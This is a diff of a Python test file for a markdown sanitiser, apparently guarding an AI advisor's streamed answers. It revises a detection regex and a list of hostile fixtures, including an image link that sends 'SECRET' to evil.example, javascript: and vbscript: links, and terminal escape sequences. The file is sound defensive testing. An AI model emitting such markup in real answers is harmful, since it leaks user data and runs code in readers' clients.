@@ -23,15 +23,26 @@ from advisor.cli import main
 from advisor.numbers import FLAG
 from advisor.safety import safe_markdown
 from advisor.stream_safety import SafeStream, render
+from tests.exfil_forms import active
 from tests.test_api import QUESTION, chat, events, serving
 
-UNSAFE = re.compile(
+UNSAFE_TEXT = re.compile(
     r"!\[|<[a-zA-Z/!?]|\b(?:javascript|vbscript|data|file):|\]\((?!https?://)"
-    r"|evil|canary|\x1b|\x07|\[(?:0|[5-9]|\d{2,})\]",
+    r"|\]\(https?://evil|\x1b|\x07|\[(?:0|[5-9]|\d{2,})\]",
     re.I,
 )
-"""Images, raw HTML tags or comments, script links, a link target that is not http(s),
-anything that named the canary hosts, terminal escapes and citations of no source (of 4)."""
+"""Images, raw HTML tags or comments, script links, a link target that is not http(s) or
+at the evil host, terminal escapes and citations of no source (of 4)."""
+
+
+class _Unsafe:
+    """`UNSAFE.search(text)`: a pattern hit, or what a CommonMark renderer would fetch or run."""
+
+    def search(self, text: str) -> object:
+        return UNSAFE_TEXT.search(text) or active(text) or None
+
+
+UNSAFE = _Unsafe()
 
 HOSTILE = [
     "PyTorch first [1]. ![x](https://evil.example/?q=SECRET) then "
@@ -40,7 +51,7 @@ HOSTILE = [
     "not [9] or [0].",
     "Autolinks <javascript:alert(1)> and <https://pytorch.org/> and "
     "<!-- https://canary.invalid/c.png --> done [3].",
-    "A chart ![chart][pixel] here [1].\n[pixel]: https://canary.invalid/ref.png\nNext line [2].",
+    "A chart ![chart][pixel] here [1].\n\n[pixel]: https://canary.invalid/ref.png\n\nNext [2].",
     "Nested [![x](https://evil.example/i.png) more text](javascript:y) end [1].",
     "Window \x1b]0;pwned\x07 clear \x1b[2J red \x1b[31mtext\x1b[0m bell\x07 [1].",
     "Split java [9]script:alert(1) and vbscript:msgbox and data:text/html,x [1].",
@@ -88,9 +99,11 @@ def stream_through(text: str, parts: list[str]) -> list[str]:
 # --- the incremental sanitiser --------------------------------------------------------------
 
 
-@pytest.mark.parametrize("text", [t for t in HOSTILE if "$" not in t])
+@pytest.mark.parametrize("text", [t for t in HOSTILE if "$" not in t and "[pixel]:" not in t])
 def test_the_hostile_answers_leak_when_sanitised_piece_by_piece(text: str) -> None:
-    """The fault: per-piece sanitising (the old stream) lets split markup through."""
+    """The fault: per-piece sanitising (the old stream) lets split markup through.
+
+    (A reference definition split into pieces only loses its brackets to escaping.)"""
     leaked = [
         size
         for size in range(1, 8)
